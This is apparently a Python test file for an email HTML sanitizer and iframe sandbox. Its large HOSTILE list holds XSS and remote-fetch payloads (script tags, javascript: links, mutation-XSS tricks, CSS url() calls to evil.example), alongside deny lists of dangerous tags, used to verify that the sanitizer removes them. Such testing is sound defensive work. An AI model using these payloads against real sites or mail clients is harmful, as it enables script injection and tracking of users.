"""HTML of a mail is shown without a script, a form or anything fetched."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from mailframe.parsing import preview
from mailframe.parsing.preview import sandboxed, sanitize

if TYPE_CHECKING:
    from collections.abc import Iterator

    from selectolax.lexbor import LexborNode

DOT = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="

HOSTILE = [
    # scripts and event handlers
    "<script>alert(1)</script>",
    "<script src=http://evil.example/a.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT\x0c>alert(1)</SCRIPT\n>",
    "<img src=http://evil.example/a.png onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x oneonerrorrror=alert(1)>",
    '<p onclick="alert(1)" ONMOUSEOVER=alert(1) style="width:100%">x</p>',
    "<body onload=alert(1) onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=http://evil.example/b.png onerror=alert(1)>",
    "<a\x00 href=java\x00script:alert(1) o\x00nclick=alert(1)>x</a>",
    "<im\x00g src=x on\x00error=alert(1)>",
    # addresses of links
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="java&Tab;script&NewLine;:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="blob:http://evil.example/1" ping="http://evil.example/ping">x</a>',
    '<a href="//evil.example/relative">x</a>',
    '<a href="http://evil.example/" target="_self" rel="opener prefetch">x</a>',
    '<area href="javascript:alert(1)" shape=default>',
    # images and what else is fetched
    "<img src=//evil.example/c.png>",
    "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=alert(1)/>'>",
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<img srcset="http://evil.example/d.png 1x, http://evil.example/e.png 2x" alt="set">',
    "<img lowsrc=http://evil.example/f.png dynsrc=http://evil.example/g.png>",
    "<picture><source srcset=http://evil.example/h.png><img src=x></picture>",
    "<table background=http://evil.example/j.png><td background=http://evil.example/k.png>x</table>",
    "<body background=http://evil.example/l.png>x",
    "<video src=http://evil.example/v.mp4 poster=http://evil.example/p.png autoplay></video>",
    "<audio src=http://evil.example/a.mp3 autoplay></audio>",
    "<video><source src=http://evil.example/w.mp4 onerror=alert(1)></video>",
    "<embed src=http://evil.example/m.swf>",
    "<object data=http://evil.example/n.html><param name=src value=http://evil.example/o></object>",
    "<applet codebase=http://evil.example/ code=Evil.class></applet>",
    "<input type=image src=http://evil.example/q.png>",
    "<bgsound src=http://evil.example/r.wav>",
    "<frameset><frame src=http://evil.example/s.html></frameset>",
    # head
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<link rel=prefetch href=http://evil.example/b>",
    "<link rel=preload as=image href=http://evil.example/c>",
    "<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=http://evil.example>",
    "<link rel=icon href=http://evil.example/favicon.ico>",
    '<meta http-equiv=refresh content="0;url=http://evil.example/refresh">',
    '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'">',
    '<meta http-equiv="Set-Cookie" content="a=b">',
    "<base href=http://evil.example/><img src=based.png><a href=based>x</a>",
    # forms
    "<form action=http://evil.example/form><input name=password><button>Go</button></form>",
    '<button formaction="javascript:alert(1)">x</button>',
    "<form id=f></form><button form=f formaction=http://evil.example/>x</button>",
    "<textarea autofocus onfocus=alert(1)></textarea><img src=x onerror=alert(1)></textarea>",
    # styles
    '<p style="background:url(http://evil.example/a.png)">x</p>',
    '<p style="background-image:URL( \'http://evil.example/b.png\' );color:red">x</p>',
    '<p style="background:u\\72 l(http://evil.example/c.png)">x</p>',
    '<p style="background:u/**/rl(http://evil.example/d.png)">x</p>',
    '<p style="list-style:url(http://evil.example/e.png);cursor:url(http://evil.example/f.cur),auto">',
    '<p style="background:image-set(\'http://evil.example/g.png\' 1x)">x</p>',
    '<p style="width:expression(alert(1));behavior:url(http://evil.example/h.htc)">x</p>',
    '<p style="-moz-binding:url(http://evil.example/i.xml#x)">x</p>',
    '<p style="position:fixed;top:0;left:0;z-index:9999">x</p>',
    '<p style="--a:url(http://evil.example/j.png);background:var(--a)">x</p>',
    '<p style="font-family:\'a;background:url(http://evil.example/k.png)\'">x</p>',
    "<style>@import 'http://evil.example/b.css';body{background:url(http://evil.example/l.png)}</style>",
    "<style>@font-face{font-family:x;src:url(http://evil.example/x.woff)}*{font-family:x}</style>",
    # frames, and out of ours
    "<iframe src=http://evil.example/frame></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe><iframe src=javascript:alert(1)></iframe></iframe><img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    '" onload="alert(1)" x="',
    "'\"></iframe><script>alert(1)</script><img src=http://evil.example/out.png>",
    "&quot;&gt;&lt;/iframe&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "</body></html><script>alert(1)</script>",
    "<portal src=http://evil.example/></portal><fencedframe src=http://evil.example/></fencedframe>",
    # drawings and formulas
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><image href=http://evil.example/a.png xlink:href=http://evil.example/b.png /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<svg><use href=http://evil.example/c.svg#x /></svg>",
    "<svg><foreignObject><img src=http://evil.example/d.png></foreignObject></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    # markup that changes when it is parsed a second time
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><a title='--&gt;&lt;img onerror=alert(1)&gt;'>",
    '<title><a title="</title><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?php <img src=x onerror=alert(1)> ?>",
    '<table><td><a title="`><img src=x onerror=alert(1)>">`',
    # the rest
    "<template><script>alert(1)</script><img src=http://evil.example/t.png></template>",
    "<div><template shadowrootmode=open><img src=http://evil.example/u.png></template></div>",
    '<x-evil onclick=alert(1) is="x">x</x-evil>',
    "<a href=http://evil.example/ onclick=alert(1)",
    '<img src="http://evil.example/unclosed.png',
    "<<<img src=x onerror=alert(1)>>>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<p id=location name=cookie class=jp-Cell>x</p>",
    '<img name=getElementById id=body src="cid:unknown">',
]  # fmt: skip

PIECES = [
    "<b>", "</b>", "<p>", "</p>", "<a ", "<table>", "<td>", "</table>", "<svg>", "<math>",
    "<style>", "</style>", "<title>", "<!--", "-->", "<![CDATA[", "]]>", "'", '"', "`", ">", "<",
    "/", "=", " ", "&", "&lt;", "&#x3c;", "&quot;", "\0", "\ud800", "alt=", "src=", "href=",
    "style=", "<img ", "<noscript>", "</noscript>", "<mtext>", "<mglyph>", "<select>", "<template>",
    "<br/>", "cid:", "data:image/png,", "javascript:", "url(", "color:", ";", "(", "\\",
]  # fmt: skip

NEWSLETTER = (
    "<!DOCTYPE html><html><head><title>News</title><style>p{color:red}</style></head><body>"
    '<table width="600" cellpadding="4" bgcolor="#ffffff" style="border:1px solid #ccc"><tr>'
    '<td colspan="2" align="center" style="background-color:rgb(0, 80, 160);color:#fff">'
    '<h1>Grüße</h1></td></tr></table><ol start="3"><li>three</li></ol>'
    '<font color="red" size="2">small</font><a href="https://example.org/?a=1&amp;b=2">read</a>'
    '<a href="mailto:ann@example.org">write</a><blockquote>quoted<br>twice</blockquote></body>'
)

VALUES = {
    "href": re.compile(r"(?:https?://|mailto:).*", re.IGNORECASE | re.DOTALL),
    "src": re.compile(r"(?:cid:|data:image/(?!svg)).*", re.IGNORECASE | re.DOTALL),
    # No function but a colour, no escape, no @rule.
    "style": re.compile(r"(?:[^\\(@]|\b(?:rgb|hsl)a?\([^()]*\))*"),
}


def elements(html: str) -> Iterator[LexborNode]:
    body = LexborHTMLParser(f"<!DOCTYPE html><html><head></head><body>{html}</body></html>").body
    assert body is not None
    return (node for node in body.traverse(include_text=False) if node.tag != "body")


def breaches(html: str) -> list[str]:
    """Return whatever is in a fragment that must not be there."""
    found = []
    for node in elements(html):
        tag = node.tag or ""
        if tag not in preview._TAGS:
            found.append(f"<{tag}>")
        for name, value in node.attributes.items():
            if not is_allowed(tag, name, value or ""):
                found.append(f"<{tag} {name}={value}>")
    return found


def is_allowed(tag: str, name: str, value: str) -> bool:
    if tag == "a" and name in {"rel", "target"}:
        return value in {"noopener noreferrer", "_blank"}
    if name not in preview._ATTRIBUTES["*"] | set(preview._ATTRIBUTES.get(tag, ())):
        return False
    required = VALUES.get(name)
    return required is None or required.fullmatch(value) is not None


def framed(html: str) -> LexborHTMLParser:
    """Return the document in the frame, after checking that there is nothing beside it."""
    frame, *others = elements(sandboxed(html))
    assert frame.tag == "iframe"
    assert others == []
    assert set(frame.attributes) == {"sandbox", "referrerpolicy", "title", "style", "srcdoc"}
    return LexborHTMLParser(frame.attributes["srcdoc"] or "")


def test_the_list_holds_nothing_that_runs_or_fetches() -> None:
    assert not preview._TAGS & {
        "script", "style", "form", "input", "button", "select", "textarea", "iframe", "frame",
        "frameset", "object", "embed", "applet", "svg", "math", "meta", "base", "link", "template",
        "noscript", "video", "audio", "source", "picture", "title", "xmp", "plaintext", "noembed",
        "noframes",
    }  # fmt: skip
    names = set().union(*preview._ATTRIBUTES.values())
    assert not names & {"id", "class", "name", "srcset", "background", "poster", "action", "ping"}
    assert not [name for name in names if name.startswith("on")]
    assert not preview._STYLES & {"position", "z-index", "content", "cursor", "behavior", "filter"}


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_loses_all_but_what_is_on_the_list(html: str) -> None:
    assert breaches(sanitize(html)) == []


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_stays_in_its_frame(html: str) -> None:
    document = framed(html)
    assert document.head is not None
    policy = [node for node in document.head.iter() if "http-equiv" in node.attributes]
    assert policy[0].attributes["content"] == (
        "default-src 'none'; img-src data:; style-src 'unsafe-inline'; base-uri 'none'; "
        "form-action 'none'"
    )
    assert document.body is not None
    assert document.body.attributes == {}
    assert breaches(document.body.inner_html or "") == []


def test_a_breach_would_be_found() -> None:
    found = breaches(
        '<form></form><p onclick=x style="color:url(x)"></p><a href="javascript:x"></a>'
        '<img src="http://evil.example/"><a target="_self"></a>'
    )
    assert found == [
        "<form>", "<p onclick=x>", "<p style=color:url(x)>", "<a href=javascript:x>",
        "<img src=http://evil.example/>", "<a target=_self>",
    ]  # fmt: skip


def test_a_script_or_a_style_sheet_is_not_shown_as_text() -> None:
    shown = sanitize("<title>t1</title><style>p{}</style><script>s1</script><svg>s2</svg><p>text")
    assert shown == "<p>text</p>"


def test_the_text_of_what_is_taken_away_stays() -> None:
    assert sanitize("<form>a<button>b</button><label>c</label></form><x-y>d</x-y>") == "abcd"


def test_what_makes_a_newsletter_readable_stays() -> None:
    clean = sanitize(NEWSLETTER)
    assert breaches(clean) == []
    assert {node.tag for node in elements(clean)} >= {
        "table", "td", "h1", "ol", "li", "font", "a", "blockquote", "br",
    }  # fmt: skip
    by_tag = {node.tag: node.attributes for node in elements(clean)}
    assert by_tag["table"]["style"] == "border:1px solid #ccc"
    assert by_tag["td"] == {
        "align": "center", "colspan": "2", "style": "background-color:rgb(0, 80, 160);color:#fff",
    }  # fmt: skip
    assert by_tag["ol"] == {"start": "3"}
    assert "Grüße" in clean
    assert "News" not in clean


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color:red;position:absolute", "color:red"),
        ("color:red;background:url(x)", "color:red"),
        ("background:#fff;width:50%", "background:#fff;width:50%"),
        ("color:rgba(0,0,0,.5)", "color:rgba(0, 0, 0, 0.5)"),
        ("mso-line-height-rule:exactly;margin:0 auto", "margin:0 auto"),
        ("width:calc(100% - 1px)", None),
        ("background:url(x)", None),
        ("", None),
    ],
)
def test_a_style_keeps_its_harmless_declarations(style: str, kept: str | None) -> None:
    (paragraph,) = elements(sanitize(f'<p style="{style}">x</p>'))
    assert paragraph.attributes.get("style") == kept


def test_a_link_opens_a_new_tab_that_does_not_know_where_from() -> None:
    assert sanitize('<a href="https://example.org/?a=1&b=2" target="_top" rel="opener">x</a>') == (
        '<a href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">x</a>'
    )
    assert framed("<p>").css_first("meta[name=referrer]").attributes["content"] == "no-referrer"
    sandbox = next(elements(sandboxed("<p>"))).attributes["sandbox"] or ""
    assert sandbox.split() == ["allow-popups", "allow-popups-to-escape-sandbox"]


@pytest.mark.parametrize(
    ("image", "shown"),
    [
        ('<img src="https://example.org/a.png" alt="A &lt;b&gt; &amp; &quot;c&quot;">',
         'A &lt;b&gt; &amp; "c"'),
        ('<img src="https://example.org/a.png">', "<small>[image not loaded]</small>"),
        ('<img src="https://example.org/a.png" alt="">', ""),
        ('<img src="https://example.org/a.png" width="1" height="1">', ""),
        ('<img src="cid:logo@example.org">', '<img src="cid:logo@example.org">'),
        (f'<img src="{DOT}" alt="dot">', f'<img alt="dot" src="{DOT}">'),
        ('<p title="<img src=https://example.org/a.png>">x</p>',
         '<p title="&lt;img src=https://example.org/a.png&gt;">x</p>'),
    ],
)  # fmt: skip
def test_an_image_that_would_be_fetched_gives_way_to_words(image: str, shown: str) -> None:
    assert sanitize(image) == shown


def test_images_that_came_with_the_message_are_shown() -> None:
    images = {"a b@example.org": DOT, "page": "data:text/html,x", "web": "https://example.org/"}
    assert sanitize('<img src="cid:a%20b@example.org">', images=images) == f'<img src="{DOT}">'
    for name in ("page", "web", "unknown"):
        assert sanitize(f'<img src="CID:{name}" alt="words">', images=images) == "words"
    assert 'src="cid:' not in sandboxed('<img src="cid:unknown">')


def test_what_is_cut_says_so() -> None:
    long = sanitize("x" * 1_500_000)
    assert "[cut: " in long
    assert len(long) < 1_100_000
    assert "[cut: " in sanitize("<p>x" * 50_000)
    assert "[cut: " not in sanitize("<p>x" * 10_000)


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 200_000,
        "<ul><li>" * 100_000,
        "&" * 1_000_000,
        "<p>" + "".join(f"<font size={n}>" for n in range(5_000)) + "<p>x" * 20_000,
        "<p>" + "".join(f"<b x='<b>{n}' y>" for n in range(5_000)) + "<p>x" * 20_000,
        "<p>" + "".join(f'<b x" y=">{n}">' for n in range(5_000)) + "<p>x" * 20_000,
        "<p>" + "<b title=1 dir=ltr lang=en align=left>" * 3 + "<p>x" * 30_000,
        "<a href=1><table>" * 30_000,
        "\xa0" * 1_000_000,
        "<div></x>" * 100_000,
        '<div a="<">' * 90_000,
        "<blockquote>x" * 77_000,
        "<table><tr><td></div>" * 40_000,
        "<!-- " * 200_000,
        f"<p {'a ' * 490_000}>x",
    ],
    ids=[
        "deep", "lists", "ampersands", "repeated", "nested", "malformed", "long", "links",
        "fixed blanks", "ignored ends", "brackets", "quotes", "tables", "comments", "attributes",
    ],
)  # fmt: skip
def test_html_made_to_stop_the_reader_does_not(html: str) -> None:
    # Without the bounds this takes minutes, or gigabytes.
    clean = sanitize(html)
    assert len(clean) <= preview._LONGEST_CLEAN * 2


def test_fixed_blanks_stay() -> None:
    assert sanitize("a\xa0b&nbsp;c") == "a&nbsp;b&nbsp;c"
    assert sanitize('<p title="a\xa0b">c</p>') == '<p title="a&nbsp;b">c</p>'


def test_bold_stays_bold_where_nothing_grows() -> None:
    assert sanitize('<b>a</b><B STYLE="color:red">b</B><b/>c') == (
        '<b>a</b><b style="color:red">b</b><b>c</b>'
    )


def test_the_frame_is_as_high_as_asked() -> None:
    assert "height:123px" in sandboxed("", height=123)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(HOSTILE) | st.sampled_from(PIECES) | st.text(max_size=5),
        max_size=12,
    ).map("".join)
)
def test_no_mixture_of_fragments_gets_through(html: str) -> None:
    clean = sanitize(html)
    assert breaches(clean) == []
    assert breaches(sanitize(clean)) == []
    clean.encode()
    framed(html)
